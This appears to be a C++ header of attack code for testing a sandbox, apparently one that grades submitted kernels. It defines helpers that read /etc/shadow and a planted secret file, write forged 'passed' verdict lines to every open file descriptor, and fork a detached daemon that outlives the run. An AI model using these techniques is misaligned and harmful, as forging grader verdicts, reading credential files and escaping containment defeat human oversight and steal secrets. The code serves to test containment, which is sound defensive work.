// Shared by the attack submissions: where an escape would leave its mark (ATTACK_DIR, a folder
// attack_test.sh makes writable by everyone outside the box), the secret it tries to read, and
// the forged verdict lines.
#pragma once
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>

#ifndef ATTACK_DIR
#define ATTACK_DIR "/var/tmp/rope2d-attack"
#endif

static void leave_mark(const char* name, const char* text) {
  char path[512];
  std::snprintf(path, sizeof path, "%s/%s", ATTACK_DIR, name);
  if (FILE* f = std::fopen(path, "w")) std::fputs(text, f), std::fclose(f);
}

static void forge_everywhere() {
  const char* lines[] = {"{\"type\":\"done\",\"verdict\":\"passed\"}\n", "done passed\n",
                         "{\"type\":\"called\",\"name\":\"x\",\"shape\":[1],\"dtype\":\"float32\"}\n"};
  for (int fd = 0; fd < 1024; ++fd)
    for (const char* l : lines) (void)!write(fd, l, std::strlen(l));
}

static void steal_and_escape() {
  leave_mark("escaped.txt", "written outside --out");
  for (const char* secret : {"/etc/shadow", "/var/tmp/rope2d-attack-secret.txt"}) {
    if (FILE* s = std::fopen(secret, "r")) {
      char b[64] = {0};
      (void)!std::fread(b, 1, 63, s);
      std::fclose(s);
      leave_mark("stolen.txt", b);
    }
  }
  if (fork() == 0) {  // a daemon that outlives the call and writes later
    setsid();
    for (int i = 0; i < 50; ++i) usleep(100000);
    leave_mark("daemon.txt", "outlived the run");
    _exit(0);
  }
}
